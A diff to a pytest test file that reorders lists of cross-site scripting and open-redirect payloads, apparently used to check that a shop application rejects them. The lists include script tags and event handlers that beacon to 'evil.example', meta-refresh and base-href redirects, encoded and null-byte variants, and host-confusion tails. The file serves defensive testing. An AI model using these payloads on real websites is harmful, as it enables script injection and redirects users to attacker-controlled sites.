@@ -17,14 +17,10 @@ pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]
 
 OURS, PLAIN = "https://callback.example/", {"Content-Type": "text/html; charset=utf-8"}
 CALL = "navigator.sendBeacon('//evil.example')"
-PATHS = [
-    f'/"><script>{CALL}</script>',
-    f"/--></title></style><script>{CALL}</script>",
-    '/"><base href=//evil.example/>',
-]
+PATHS = [f'/"><script>{CALL}</script>', f"/--></title></style><script>{CALL}</script>", "/';url=http://evil.example/"]
 PATHS += [f"/'><img src=x onerror={CALL}>", f'/" onfocus="{CALL}" autofocus', f"/&quot;&gt;&lt;script&gt;{CALL}"]
 PATHS += ['/"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'/\0"\0><\0script>{CALL}</script>']
-PATHS += ["//evil.example/", "/\\evil.example/", "/\x01\n http://evil.example/", "/';url=http://evil.example/"]
+PATHS += ["//evil.example/", "/\\evil.example/", "/\x01\n http://evil.example/", '/"><base href=//evil.example/>']
 # What turns the shop's origin into another, were it to follow at once.
 TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
 BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
